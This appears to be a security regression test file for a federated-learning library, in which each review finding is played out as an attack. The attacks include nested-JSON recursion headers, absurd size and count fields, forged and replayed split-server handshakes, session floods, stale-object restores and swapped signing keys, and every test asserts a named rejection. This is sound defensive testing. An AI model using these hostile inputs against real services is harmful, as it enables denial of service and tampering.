"""Each finding of the integrity review, performed as an attacker would against the real code:
real sealed objects in real buckets, the real split HTTP server, a real federation. Every test
shows the named rejection, the round going on at quorum where there is a round, and nothing of
the attacker's committed.

Who the attacker is, per finding: the storage provider (1, 2, 3, 10), a client with its real key
(4, 10), anyone reading MLflow or Prefect (5, 8), a network peer of the split server (6, 7), the
aggregator (9). The `r` tests are the second review's; the `o` tests the third's, whose attacker
is whoever starts a client's runs (the orchestrator, o1, o3, o4), whoever holds a key file
outside the TEE (o2), the artifact store's writers (o5), a server outside the expected TEE (o6)
and a client stating its own timings (o7).
"""

from __future__ import annotations

import json
import math
import os
import shutil
import struct
import threading
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlparse

import pytest
import torch

from fedlib.config import ConfigError, FederationConfig, parse_config
from fedlib.data.shards import ClientData
from fedlib.model.base import trained_part
from fedlib.rejection import Reason, UpdateRejected
from fedlib.round.checkpoint import CheckpointStore, ManifestRejected, plan_rounds
from fedlib.round.client import train_and_seal, upload_sealed
from fedlib.round.manifest import Manifest, RoundScore, score_to_json, to_json
from fedlib.round.secure_aggregator import finish_secure_round, sum_masked_updates
from fedlib.secagg.client import SecureRound, masked_update
from fedlib.secagg.protocol import make_reveal, make_setup, open_inbox, relay_setups, unmask_sum
from fedlib.strategies import make_strategy
from fedlib.update.chain import Expected
from fedlib.update.report import SaidByClient
from fedlib.wire import storage
from fedlib.wire.envelope import MAGIC, EnvelopeContext, UpdateKey, seal
from fedlib.wire.sealed_stores import CarriedResidual
from fedlib.wire.serialization import tensors_to_bytes
from tasks.from_config import (
    aggregate,
    aggregator_update_key,
    checkpoint_store,
    client_update_key,
    expected_of,
    initial_adapter,
    keyring,
    load_data,
    local_round,
    mask_settings,
    partition_clients,
    residual_store,
    reveal_ledger,
    round_intake,
    secagg_session,
    update_url,
    weight_rule,
)
from tests.conftest import tiny_config_dict

CLOUDS = ("aws", "gcp", "azure")


@dataclass
class Federation:
    """Round 0 committed: what every party reads before round 1."""

    config: FederationConfig
    shards: dict[str, torch.Tensor]
    adapter: dict[str, torch.Tensor]
    parent: str

    @property
    def ring(self):
        return keyring(self.config)

    @property
    def store(self) -> CheckpointStore:
        return checkpoint_store(self.config)

    def keys(self) -> dict[str, UpdateKey]:
        return {c: aggregator_update_key(self.ring, c) for c in CLOUDS}

    def expected(self, steps: int | None = None) -> dict[str, Expected]:
        budget = steps or self.config.training.local_steps
        return expected_of(self.config, {c: len(s) for c, s in self.shards.items()}, {c: budget for c in CLOUDS})

    def upload(self, client: str, round_number: int = 1, secure: SecureRound | None = None) -> None:
        key = client_update_key(self.ring, client)
        data = ClientData.of_blocks(self.shards[client], self.shards[client][:0], "<test shard>")
        job = local_round(self.config, client, round_number, parent=self.parent)
        sealed = train_and_seal(job, self.adapter, data, key, secure)
        upload_sealed(sealed)

    def aggregate(self, round_number: int = 1, config: FederationConfig | None = None):
        config = config or self.config
        intake = round_intake(config, round_number, list(CLOUDS), self.keys(), self.adapter, expected=self.expected(), parent=self.parent)
        return aggregate(config, intake, self.adapter)

    def plant(self, client: str, blob: bytes, round_number: int = 1) -> None:
        """What the storage provider (or a client) writes into a client's slot."""
        storage.write_atomic(update_url(self.config, client, round_number), blob)


def _federation(tmp_path, corpus_dir, tiny_model_dir, **overrides) -> Federation:
    raw = tiny_config_dict(tmp_path, corpus_dir, tiny_model_dir, clouds=CLOUDS, **overrides)
    raw["training"].update(local_steps=2)
    raw.setdefault("split", {"cut": 1, "learning_rate": 0.01, "spf_fraction": 0.01})
    config = parse_config(raw)
    keyring(config, create=True)
    data = load_data(config)
    shards = {c: data.train.select(p) for c, p in partition_clients(config, data).items()}
    adapter = initial_adapter(config)
    manifest = checkpoint_store(config).commit(adapter, Manifest(config.federation.id, 0, 1, "run"))
    return Federation(config, shards, adapter, manifest.adapter_sha256)


@pytest.fixture
def fed(tmp_path, corpus_dir, tiny_model_dir) -> Federation:
    return _federation(tmp_path, corpus_dir, tiny_model_dir)


def _fedavg_of(fed: Federation, clients) -> dict[str, torch.Tensor]:
    """What an honest round over exactly these clients gives."""
    intake = round_intake(fed.config, 1, list(clients), fed.keys(), fed.adapter, expected=fed.expected(), parent=fed.parent)
    adapter, report = aggregate(fed.config, intake, fed.adapter)
    assert report.accepted == list(clients)
    return adapter


# 1. Masked uploads are bound to their secure-aggregation session.
def test_1_a_masked_upload_from_an_earlier_session_is_refused_and_the_round_goes_on(tmp_path, corpus_dir, tiny_model_dir):
    fed = _federation(tmp_path, corpus_dir, tiny_model_dir, secure_aggregation={"enabled": True})
    config, ring = fed.config, fed.ring
    weights = {c: len(fed.shards[c]) for c in CLOUDS}

    def secure_round(session_id: str, clients):
        session = secagg_session(config, 1, session_id)
        inboxes = relay_setups({c: make_setup(ring, c, session) for c in clients})
        return session, inboxes, float(sum(weights[c] for c in clients))

    # Attempt A: aws masks and uploads, then the round crashes. Its object stays in the bucket.
    session_a, inboxes_a, scale_a = secure_round("aa" * 8, CLOUDS)
    fed.upload("aws", secure=SecureRound(ring, session_a, inboxes_a["aws"], scale_a))
    stale = storage.read_limited(update_url(config, "aws", 1), 1 << 30)
    # Attempt B, a new session: gcp and azure upload; aws's client of this attempt never does,
    # and the stale object is what the aggregator finds in aws's slot.
    session_b, inboxes_b, scale_b = secure_round("bb" * 8, CLOUDS)
    for client in ("gcp", "azure"):
        fed.upload(client, secure=SecureRound(ring, session_b, inboxes_b[client], scale_b))
    assert storage.read_limited(update_url(config, "aws", 1), 1 << 30) == stale
    intake = round_intake(
        config, 1, list(CLOUDS), fed.keys(), fed.adapter, expected=fed.expected(), parent=fed.parent, session=session_b.id
    )
    template = trained_part(config.lora, fed.adapter)
    masked, report = sum_masked_updates(intake, template, weight_rule(config), scale_b, config.secagg_min_survivors)
    assert report.rejected["aws"].reason == "wrong_session" and report.accepted == ["gcp", "azure"]

    survivors, dropped = ["gcp", "azure"], ["aws"]
    peers = {c: open_inbox(ring, c, session_b, inboxes_b[c]) for c in survivors}
    reveals = {
        c: make_reveal(ring, c, session_b, peers[c], survivors, dropped, client_update_key(ring, c), reveal_ledger(config, ring, c))
        for c in survivors
    }
    publics = {c: make_setup(ring, c, session_b).mask_public for c in CLOUDS}
    strategy = make_strategy("fedavg")
    unmasked = unmask_sum(
        masked.residues, session_b, publics, survivors, dropped, reveals, {c: aggregator_update_key(ring, c) for c in survivors}
    )
    frac_bits = config.secure_aggregation.frac_bits
    adapter = finish_secure_round(masked, unmasked, fed.adapter, template, weight_rule(config), frac_bits, strategy, 1)
    # What was committed is the survivors' FedAvg to fixed-point precision, not ±120 of noise.
    for client in ("gcp", "azure"):  # their plain updates, to compute the expected mean
        fed.upload(client)
    honest = _fedavg_of(fed, ["gcp", "azure"])
    for name in adapter:
        torch.testing.assert_close(adapter[name], honest[name], atol=1e-5, rtol=0)
    assert max(float(v.abs().max()) for v in adapter.values()) < 1.0


# 2. Deeply nested JSON is a named rejection, never a RecursionError, in every parser that reads it.
def _nested_header_envelope(depth: int = 100_000) -> bytes:
    header = b"[" * depth + b"]" * depth
    return MAGIC + struct.pack(">I", 4096) + header[:4096] + bytes(32)


def test_2_a_nested_json_header_is_rejected_and_the_round_goes_on(fed):
    for client in ("aws", "azure"):
        fed.upload(client)
    fed.plant("gcp", _nested_header_envelope())  # no key needed
    adapter, report = fed.aggregate()
    assert report.rejected["gcp"].reason == "malformed" and "nested deeper" in report.rejected["gcp"].detail
    assert report.accepted == ["aws", "azure"]
    honest = _fedavg_of(fed, ["aws", "azure"])
    for name in adapter:
        torch.testing.assert_close(adapter[name], honest[name])


def test_2_the_split_channel_and_the_residual_loader_share_the_parser(fed, caplog):
    from fedlib.split.channel import HelloChallenges, client_hello, server_accept

    hello, pending = client_hello(fed.ring, "aws", HelloChallenges().issue(0.0))
    server = server_accept(fed.ring, hello).channel
    with pytest.raises(UpdateRejected) as info:
        server.open("train-activations", _nested_header_envelope())
    assert info.value.reason is Reason.MALFORMED
    store = residual_store(fed.config, fed.ring, "aws", None)
    store.save(_nested_header_envelope())
    with caplog.at_level("WARNING", logger="fedlib.wire.sealed_stores"):
        assert store.load(1) == {}
    assert "residual left out (malformed)" in caplog.text


# 3. Signed manifests are bound to their round, federation and parent.
def _commit_round_1(fed: Federation) -> None:
    fed.store.commit(fed.adapter, Manifest("test", 1, 1, "run", parent_adapter_sha256=fed.parent))


def _copy_round(store: CheckpointStore, source: int, target: int) -> None:
    src, dst = Path(store.round_url(source).removeprefix("file://")), Path(store.round_url(target).removeprefix("file://"))
    shutil.copytree(src, dst)


def test_3_signed_files_copied_to_another_round_or_federation_are_refused(fed, tmp_path):
    _commit_round_1(fed)
    store = fed.store
    _copy_round(store, 1, 2)  # served to clients as round 2
    with pytest.raises(ManifestRejected, match="round 1, not 'test' round 2"):
        store.adapter(2)
    _copy_round(store, 1, 97)  # to make resume plan round 98
    assert store.latest_round() == 1
    assert plan_rounds(store.manifests(), 3).first == 2
    # Another federation signed with the same key accepts nothing of this one's.
    other_root = tmp_path / "other-checkpoints"
    shutil.copytree(Path(store.root.removeprefix("file://")), other_root)
    other = CheckpointStore(other_root.as_uri(), "other", verifier=fed.ring.signing_public)
    with pytest.raises(ManifestRejected, match="signed for federation 'test'"):
        other.manifest(1)
    assert other.latest_round() is None


def test_3_a_round_that_does_not_follow_its_parent_ends_the_lineage(fed):
    _commit_round_1(fed)
    store = fed.store
    with pytest.raises(ManifestRejected, match="not aggregated from round 1"):  # the aggregator refuses to commit it
        store.commit(fed.adapter, Manifest("test", 2, 2, "run", parent_adapter_sha256="0" * 64))
    # Round 0's manifest re-signed in round 2's slot by a confused aggregator is refused by the chain walk.
    body = json.dumps({**to_json(store.manifest(0)), "round": 2, "parent_adapter_sha256": "f" * 64}, indent=2)
    signature = fed.ring.signing_private.sign(body.encode()).hex()
    storage.write_atomic(store.manifest_url(2), json.dumps({"manifest": body, "signature": signature}).encode())
    assert store.manifest(2).round == 2  # verifies on its own...
    assert store.latest_round() == 1  # ...but does not link to round 1's adapter


# 4. Payloads sealed with a client's real key (a buggy or hostile client) are named rejections.
def _sealed_payload(fed: Federation, client: str, payload: bytes, round_number: int = 1) -> bytes:
    ctx = EnvelopeContext(fed.config.federation.id, round_number, client, "", fed.parent)
    return bytes(seal(payload, client_update_key(fed.ring, client), ctx))


def _payload(fed: Federation, tensors=None, **meta: str) -> bytes:
    tensors = tensors if tensors is not None else {k: torch.zeros_like(v) for k, v in fed.adapter.items()}
    return tensors_to_bytes(tensors, metadata={"num_examples": "3", "local_steps": "2", **meta})


def _nested_safetensors(depth: int = 5000) -> bytes:
    header = ("[" * depth + "]" * depth).encode()
    return struct.pack("<Q", len(header)) + header


@pytest.mark.parametrize("codecs", [(), ("int8",), ("topk", "zstd")])
def test_4_hostile_payloads_with_a_real_key_are_named_rejections(tmp_path, corpus_dir, tiny_model_dir, codecs):
    fed = _federation(tmp_path, corpus_dir, tiny_model_dir, compression={"codecs": list(codecs), "topk_fraction": 0.1})
    chain = fed.config.compression.chain
    name = next(iter(fed.adapter))
    attacks = {
        "wrong types in the codec description": _payload(fed, codecs='[["int8", {"shapes": []}]]'),
        "a codec description that is not JSON": _payload(fed, codecs="[" * 5000),
        "nested safetensors header": _nested_safetensors(),
        "num_examples = 10**400": _payload(fed, num_examples="1" + "0" * 400),
        "more examples than the shard": _payload(fed, num_examples=str(10**12)),
        "more local steps than asked": _payload(fed, local_steps="1000"),
        "a tensor the adapter does not have": _payload(fed, {"other::q": torch.zeros(4, dtype=torch.int8)}),
    }
    gaps = {f"{n}::gaps": torch.zeros(1, dtype=torch.uint8) for n in fed.adapter}
    values = {f"{n}::values": torch.zeros(1) for n in fed.adapter}
    if chain.tensor_codecs == ("topk",):
        for declared in (1 << 27, 1 << 40):  # 512 MiB of float32 under a 1 MiB limit; past int64 byte counts
            description = json.dumps([["topk", {"shapes": {name: [declared]}}]])
            attacks[f"a small top-k update declaring {declared} entries"] = _payload(fed, {**gaps, **values}, codecs=description)
    for attack, payload in attacks.items():
        for client in ("aws", "azure"):
            fed.upload(client)
        fed.plant("gcp", _sealed_payload(fed, "gcp", chain.compress(payload)))
        adapter, report = fed.aggregate()
        assert report.accepted == ["aws", "azure"], attack
        assert report.rejected["gcp"].reason in {"malformed", "out_of_range", "unexpected_tensors", "shape_mismatch"}, (
            attack,
            report.rejected,
        )
        assert all(torch.isfinite(v).all() for v in adapter.values())


# 5. ε is not under-reported when clients are sampled.
def test_5_epsilon_with_a_public_sample_is_the_worst_clients_at_q_1(tmp_path, corpus_dir, tiny_model_dir):
    from fedlib.privacy.accountant import epsilon_after, participation_after, privacy_spent
    from fedlib.round.planning import sample_clients

    raw = tiny_config_dict(tmp_path, corpus_dir, tiny_model_dir, clouds=tuple(f"c{i}" for i in range(10)))
    raw["federation"]["clients_per_round"] = 2
    raw["privacy"] = {"enabled": True, "noise_multiplier": 1.0, "delta": 1e-5}
    config = parse_config(raw)
    counts: dict[str, int] = {}
    for round_number in range(1, 51):
        counts = participation_after(
            counts,
            sample_clients([c.name for c in config.clouds], config.federation.clients_per_round, config.federation.seed, round_number),
        )  # what every manifest shows
    spent = privacy_spent(config.privacy, counts)
    amplified = epsilon_after(50, 1.0, 0.2, 1e-5)  # what crediting the public sample would claim
    worst = max(counts.values())
    assert spent.epsilon == pytest.approx(epsilon_after(worst, 1.0, 1.0, 1e-5)) and counts[spent.client] == worst
    assert spent.epsilon > 2 * amplified and worst >= 10


# 6. require_tee refuses a claim; only a configured verifier's check of bound evidence passes.
class _Claim:
    def __init__(self, evidence):
        self.claimed = evidence

    def evidence(self, binding: bytes) -> dict:
        return dict(self.claimed)


_VENDOR = None


def _vendor():
    """A stand-in TEE vendor (tests/tee_evidence.py): Nitro-format documents under a test root."""
    global _VENDOR
    from tests.tee_evidence import StandInVendor

    _VENDOR = _VENDOR or StandInVendor("attacks")
    return _VENDOR


@pytest.fixture(scope="module", autouse=True)
def _test_verifier():
    from fedlib.split.attestation import VERIFIERS
    from fedlib.tee.nitro import NitroVerifier

    if "test-tee" not in VERIFIERS.items:
        VERIFIERS.register("test-tee")(lambda expected: NitroVerifier(pcrs={}, root=_vendor().root))


@pytest.fixture
def split_server(fed):
    """The real split server (HTTP on 127.0.0.1) in this process, so a test can set its attestor
    and clock; returns (state, url)."""
    from fedlib.split.server import http_server
    from tasks.split_server import split_server as middle_of

    state = middle_of(fed.config)
    httpd = http_server(state)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield state, f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()
    httpd.server_close()


def _connect(config, url, client="aws", keep_wire=False):
    from tasks.split import connect_client

    return connect_client(config, client, url, keep_wire)


def _requiring(config: FederationConfig, verifier: str | None) -> FederationConfig:
    attestation = config.split.attestation.model_copy(update={"verifier": verifier})
    return config.model_copy(update={"split": config.split.model_copy(update={"require_tee": True, "attestation": attestation})})


def test_6_a_claimed_tee_is_not_evidence(fed, split_server):
    from fedlib.tee.evidence import AttestationFailed, Refusal
    from tests.tee_evidence import NitroAttestor

    state, url = split_server
    for claim in ({"tee": "sev-snp"}, {}):
        state.attestor = _Claim(claim)
        with pytest.raises(AttestationFailed, match="split.attestation.verifier is not"):
            _connect(_requiring(fed.config, None), url)
        with pytest.raises(AttestationFailed):
            _connect(_requiring(fed.config, "test-tee"), url)
    # Evidence recorded from one session and replayed in another is bound to the wrong session.
    state.attestor = NitroAttestor(_vendor())
    _connect(_requiring(fed.config, "test-tee"), url)  # a verifier that checks, and evidence that is bound
    replayed = NitroAttestor(_vendor()).evidence(bytes(32))
    state.attestor = _Claim(replayed)
    with pytest.raises(AttestationFailed) as info:
        _connect(_requiring(fed.config, "test-tee"), url)
    assert info.value.reason is Refusal.BINDING


# 7. The split server: every endpoint needs a session; replays, overwrites, floods and big bodies are refused.
def _post(url: str, path: str, body: bytes, headers: dict | None = None) -> tuple[int, dict]:
    import urllib.error
    import urllib.request

    request = urllib.request.Request(url + path, data=body, method="POST", headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, {}
    except urllib.error.HTTPError as err:
        return err.code, json.loads(err.read() or b"{}")


def _middle_state(state) -> dict[str, torch.Tensor]:
    return {k: v.clone() for k, v in state.trainer.state().items()}


def test_7_no_endpoint_answers_without_a_session(fed, split_server):
    import urllib.error
    import urllib.request

    state, url = split_server
    assert _post(url, "/nosuchsession/calibrated", b"")[1]["reason"] == "unknown_session"
    with pytest.raises(urllib.error.HTTPError) as info:
        urllib.request.urlopen(url + "/state", timeout=30)
    assert info.value.code == 404
    client = _connect(fed.config, url)
    session = client.channel.session
    code, refusal = _post(url, f"/{session}/calibrated", b"anything but a sealed message")  # a live session
    assert code == 400 and refusal["reason"] == "malformed"
    assert not state.calibrated
    assert set(client.server_state()) == set(state.trainer.state())  # the session's own channel: answered


def test_7_a_recorded_session_cannot_be_replayed(fed, split_server, tmp_path):
    from fedlib.split.server import http_server
    from tasks.split_server import split_server as middle_of

    state, url = split_server
    client = _connect(fed.config, url, keep_wire=True)
    batch = load_data(fed.config).train.tokens[:2]
    client.calibrate([batch])
    hello, first = client.transport.wire[2], client.transport.wire[4]  # challenge, answer, hello, answer, message 0
    client.transport.wire.clear()
    client.train_step(batch)
    forward, backward = client.transport.wire[0], client.transport.wire[2]
    moved = _middle_state(state)
    code, refusal = _post(url, "/hello", hello, {"Content-Type": "application/json"})
    assert (code, refusal["reason"]) == (409, "session_reused")  # and the live session is untouched:
    client.train_step(batch)
    # A server that has forgotten the session (restarted) did not issue the hello's challenge:
    # the hello opens nothing there, and the recorded messages find no session.
    fresh = middle_of(fed.config)
    httpd = http_server(fresh)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    other = f"http://127.0.0.1:{httpd.server_address[1]}"
    try:
        before = _middle_state(fresh)
        code, refusal = _post(other, "/hello", hello, {"Content-Type": "application/json"})
        assert (code, refusal["reason"]) == (400, "stale") and not fresh.sessions
        session = json.loads(hello)["session"]
        for path, blob in (
            (f"/{session}/calibrate/forward", first),
            (f"/{session}/train/forward", forward),
            (f"/{session}/train/backward", backward),
        ):
            assert _post(other, path, blob) == (404, {"reason": "unknown_session", "detail": f"no open session {session[:16]!r}"})
        assert all(torch.equal(before[k], v) for k, v in _middle_state(fresh).items())
    finally:
        httpd.shutdown()
        httpd.server_close()
    assert any(not torch.equal(moved[k], v) for k, v in _middle_state(state).items())  # only the genuine steps moved it


def _challenge(url: str) -> str:
    import urllib.request

    with urllib.request.urlopen(urllib.request.Request(url + "/challenge", data=b"", method="POST"), timeout=30) as response:
        return json.loads(response.read())["challenge"]


def test_7_floods_and_big_bodies_are_refused(fed, split_server):
    from fedlib.split.channel import client_hello

    state, url = split_server
    for i in range(500):  # anonymous hellos: no proof of a client key (with and without a real challenge)
        forged = {"client": "aws", "session": f"{i:032x}", "ephemeral": "00" * 32, "proof": "00" * 64}
        if i % 2:
            forged["challenge"] = _challenge(url)
        code, refusal = _post(url, "/hello", json.dumps(forged).encode(), {"Content-Type": "application/json"})
        assert refusal["reason"] in ("malformed", "authentication_failed"), refusal
    assert len(state.sessions) == 0
    state.limits = state.limits.model_copy(update={"max_sessions": 2})  # a share of one session each, two in all
    _connect(fed.config, url, "aws")
    _connect(fed.config, url, "gcp")
    hello, _ = client_hello(fed.ring, "azure", _challenge(url))
    code, refusal = _post(url, "/hello", json.dumps(hello).encode(), {"Content-Type": "application/json"})
    assert (code, refusal["reason"]) == (503, "too_many_sessions") and len(state.sessions) == 2
    now = state.clock()
    state.clock = lambda: now + fed.config.split.session_ttl_s + 1  # idle sessions expire
    _connect(fed.config, url, "azure")
    assert len(state.sessions) == 1
    code, refusal = _post(url, "/hello", b"x" * 1024, {"Content-Length": str(fed.config.split.max_body_bytes + 1)})
    assert (code, refusal["reason"]) == (413, "too_large")


# 8. No credential and no noise seed reaches MLflow or Prefect.
@pytest.mark.parametrize(
    ("section", "value", "field"),
    [
        ("tracking", {"uri": "http://alice:hunter2@mlflow.internal:5000"}, "tracking.uri: a URL with a password"),
        ("aggregation", {"options": {"api_key": "abc"}}, "aggregation.options.api_key: looks like a credential"),
    ],
)
def test_8_credentials_in_a_config_are_refused(tmp_path, corpus_dir, tiny_model_dir, section, value, field):
    raw = tiny_config_dict(tmp_path, corpus_dir, tiny_model_dir)
    raw[section] = {**raw.get(section, {}), **value}
    with pytest.raises(ConfigError, match=field.replace(".", r"\.")):
        parse_config(raw, "fed.yaml")
    raw = tiny_config_dict(tmp_path, corpus_dir, tiny_model_dir)
    raw["clouds"][0]["storage_options"] = {"client_kwargs": {"endpoint_url": "https://key:secret@s3.internal"}}
    with pytest.raises(ConfigError, match=r"clouds\[0\]\.storage_options\.client_kwargs\.endpoint_url: a URL with a password"):
        parse_config(raw, "fed.yaml")
    raw["clouds"][0]["storage_options"] = {"private_key": "-----BEGIN"}
    with pytest.raises(ConfigError, match="private_key: looks like a credential"):
        parse_config(raw, "fed.yaml")


def test_8_the_noise_seed_is_refused_outside_tests_and_never_logged(tmp_path, corpus_dir, tiny_model_dir, monkeypatch):
    from mlflow.tracking import MlflowClient
    from prefect.client.orchestration import get_client

    from flows.federated_training import federated_training
    from tests.conftest import write_config

    seed = 918273645
    raw = tiny_config_dict(tmp_path, corpus_dir, tiny_model_dir)
    raw["training"].update(rounds=1, local_steps=1)
    raw["privacy"] = {"enabled": True, "clip_norm": 1.0, "noise_multiplier": 0.5, "noise_seed": seed}
    with monkeypatch.context() as env:
        env.delenv("FEDLIB_ALLOW_NOISE_SEED")
        with pytest.raises(ConfigError, match="privacy.noise_seed: a fixed noise seed makes the noise removable"):
            parse_config(raw, "fed.yaml")
    manifests = federated_training(str(write_config(tmp_path, raw)))
    config = parse_config(raw)
    run = MlflowClient(config.tracking_uri).get_run(manifests[-1].mlflow_run_id)
    assert run.data.params["privacy.noise_seed"] == "<redacted>"
    assert str(seed) not in json.dumps(run.data.params)
    with get_client(sync_client=True) as client:
        round_run = client.read_flow_run(manifests[-1].prefect_flow_run_id)
    assert round_run.parameters["config"]["privacy"]["noise_seed"] == "<redacted>"
    assert str(seed) not in json.dumps(round_run.parameters)
    for manifest in manifests:
        assert str(seed) not in json.dumps(to_json(manifest))


# 9. A client answers one reveal per session; the threshold is a majority.
def test_9_a_second_reveal_that_would_unmask_a_client_is_refused(fed):
    config, ring = fed.config, fed.ring
    session = secagg_session(config, 1, "cc" * 8)
    inboxes = relay_setups({c: make_setup(ring, c, session) for c in CLOUDS})
    peers = open_inbox(ring, "aws", session, inboxes["aws"])
    key, ledger = client_update_key(ring, "aws"), reveal_ledger(config, ring, "aws")
    first = make_reveal(ring, "aws", session, peers, ["aws", "gcp", "azure"], [], key, ledger)
    # The same request again (a retry) is answered; gcp "dropped" now would add its mask key to
    # the self-mask share already given: both secrets of gcp, its update unmasked.
    assert make_reveal(ring, "aws", session, peers, ["aws", "gcp", "azure"], [], key, ledger) != first  # fresh nonce, same shares
    with pytest.raises(UpdateRejected) as info:
        make_reveal(ring, "aws", session, peers, ["aws", "azure"], ["gcp"], key, ledger)
    assert info.value.reason is Reason.ALREADY_REVEALED
    # The ledger lives in aws's own bucket, sealed: a fresh process of aws refuses too.
    again = reveal_ledger(parse_config(config.model_dump()), keyring(config), "aws")
    with pytest.raises(UpdateRejected, match="already_revealed"):
        make_reveal(ring, "aws", session, peers, ["aws", "azure"], ["gcp"], key, again)


def test_9_a_minority_threshold_is_a_config_error(tmp_path, corpus_dir, tiny_model_dir):
    raw = tiny_config_dict(tmp_path, corpus_dir, tiny_model_dir, clouds=("aws", "gcp", "azure", "onprem"))
    raw["secure_aggregation"] = {"enabled": True, "threshold": 2}
    with pytest.raises(ConfigError, match="threshold=2 must be more than half of the 4 clouds"):
        parse_config(raw, "fed.yaml")
    raw["secure_aggregation"]["threshold"] = 3
    assert parse_config(raw).secagg_threshold == 3


# 10. Lesser findings.
class _GrowingObjectHandler(BaseHTTPRequestHandler):
    """An object server whose object grows between the size query and the read: it lists 10
    bytes, then serves whatever range is asked for of 50,000."""

    body = b"x" * 50_000
    ranges: list[str] = []

    def do_HEAD(self):  # noqa: N802
        self.send_response(200)
        self.send_header("Content-Length", "10")
        self.end_headers()

    def do_GET(self):  # noqa: N802
        asked = self.headers.get("Range")
        _GrowingObjectHandler.ranges.append(asked)
        data = self.body
        if asked:
            start, end = asked.removeprefix("bytes=").split("-")
            data = data[int(start) : int(end) + 1]
        self.send_response(206 if asked else 200)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args):
        pass


def test_10_a_read_is_bounded_even_when_the_object_grows_after_its_size_was_checked():
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _GrowingObjectHandler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{httpd.server_address[1]}/update"
        with pytest.raises(UpdateRejected) as info:
            storage.read_limited(url, 1000)
        assert info.value.reason is Reason.TOO_LARGE
        assert _GrowingObjectHandler.ranges == ["bytes=0-1000"]  # never more than the limit + 1 came in
    finally:
        httpd.shutdown()
        httpd.server_close()


def test_10_an_older_residual_restored_into_the_bucket_is_not_added_back(fed, caplog):
    store = residual_store(fed.config, fed.ring, "aws", None)
    store.save(store.sealed(2, {"w": torch.ones(3)}))
    old = storage.read_limited(store.url, 1 << 30)
    store.save(store.sealed(4, {"w": torch.full((3,), 2.0)}))
    assert torch.equal(store.load(4)["w"], torch.full((3,), 2.0))
    storage.write_atomic(store.url, old)  # the storage provider restores round 2's object
    with caplog.at_level("WARNING", logger="fedlib.wire.sealed_stores"):
        assert store.load(4) == {}
    assert "residual left out (stale)" in caplog.text
    forged = old.replace(b'"round":2', b'"round":4')  # claiming round 4 breaks the seal
    storage.write_atomic(store.url, forged)
    assert store.load(4) == {}
    assert CarriedResidual(store, None).carried_from is None  # a client never accepted carries nothing


def test_10_nan_is_refused_by_fixed_point_and_counts_by_the_round(fed):
    from fedlib.secagg.fixedpoint import encode

    with pytest.raises(UpdateRejected) as info:
        encode({"w": torch.tensor([0.1, float("nan")])}, 16)
    assert info.value.reason is Reason.NON_FINITE
    session = secagg_session(fed.config, 1, "dd" * 8)
    ring = fed.ring
    inboxes = relay_setups({c: make_setup(ring, c, session) for c in CLOUDS})
    nan = {k: torch.full_like(v, float("nan")) for k, v in fed.adapter.items()}
    with pytest.raises(UpdateRejected, match="non_finite"):
        masked_update(mask_settings(fed.config), "aws", nan, 10, 1, SecureRound(ring, session, inboxes["aws"], 30.0))
    # A self-reported example count past the client's shard is refused, and the round goes on.
    for client in ("aws", "azure"):
        fed.upload(client)
    fed.plant("gcp", _sealed_payload(fed, "gcp", _payload(fed, num_examples=str(len(fed.shards["gcp"]) + 1))))
    adapter, report = fed.aggregate()
    assert report.rejected["gcp"].reason == "out_of_range" and report.accepted == ["aws", "azure"]


# ---- The second review (issue 27): each finding as its attacker performs it. ----


def _keyring_config(tmp_path: Path, aggregator, clients: dict, key_source: str, federation: str = "trust", data_dir: str = "data") -> dict:
    from fedlib.wire.keys import public_text

    return {
        "federation": {"id": federation, "data_dir": str(tmp_path / data_dir)},
        "keyring": {
            "aggregator": {"exchange": public_text(aggregator[0].public_key()), "signing": public_text(aggregator[1].public_key())},
            "clients": {name: public_text(keys[0].public_key()) for name, keys in clients.items()},
            "key_source": key_source,
        },
        "clouds": [{"name": name} for name in clients],
    }


def test_r1_no_config_change_makes_a_party_trust_a_new_aggregator_key(tmp_path, capsys, monkeypatch):
    """The orchestrator hands aws a keyring with an aggregator key of its own, and moves whatever
    the config decides (`federation.id`, `data_dir`, the key source) so that no earlier record is
    found. aws trusts only what it trusted with `fedlib keys trust` on its own machine."""
    import yaml

    from fedlib.wire.keys import AGGREGATOR, new_party_keys, party_pem
    from fedlib.wire.trust import KeyringNotTrusted
    from fedlib_cli.main import main

    aws, gcp = new_party_keys("aws"), new_party_keys("gcp")
    honest, attacker = new_party_keys(AGGREGATOR), new_party_keys(AGGREGATOR)
    key_file = tmp_path / "aws.pem"
    key_file.write_bytes(party_pem(aws))
    key_file.chmod(0o600)
    source = f"file:{key_file}"
    honest_config = _keyring_config(tmp_path, honest, {"aws": aws, "gcp": gcp}, source)
    with pytest.raises(KeyringNotTrusted, match="fedlib keys trust"):  # nothing is trusted on first sight
        keyring(parse_config(honest_config), "aws")
    (tmp_path / "federation.yaml").write_text(yaml.safe_dump(honest_config))
    assert main(["keys", "trust", str(tmp_path / "federation.yaml"), "--party", "aws"]) == 0
    assert keyring(parse_config(honest_config), "aws").client_private  # the trusted keyring: fine

    swaps = {
        "same place": _keyring_config(tmp_path, attacker, {"aws": aws, "gcp": gcp}, source),
        "another federation.id and data_dir": _keyring_config(
            tmp_path, attacker, {"aws": aws, "gcp": gcp}, source, federation="fresh", data_dir="elsewhere"
        ),
    }
    stolen = new_party_keys("aws")  # the orchestrator also hands aws a key of its own, through the job's environment
    monkeypatch.setenv("FEDLIB_PLANTED_KEY", party_pem(stolen).decode())
    swaps["a key source the orchestrator filled"] = _keyring_config(
        tmp_path, attacker, {"aws": stolen, "gcp": gcp}, "env:FEDLIB_PLANTED_KEY", federation="fresh2", data_dir="elsewhere2"
    )
    for what, config in swaps.items():
        with pytest.raises(KeyringNotTrusted):
            keyring(parse_config(config), "aws")
        assert not list((tmp_path / config["federation"]["data_dir"]).glob("**/*.pin")), what
    capsys.readouterr()
    (tmp_path / "swap.yaml").write_text(yaml.safe_dump(swaps["same place"]))
    assert main(["keys", "trust", str(tmp_path / "swap.yaml"), "--party", "aws"]) == 1  # a rotation needs --replace
    assert "--replace" in capsys.readouterr().err


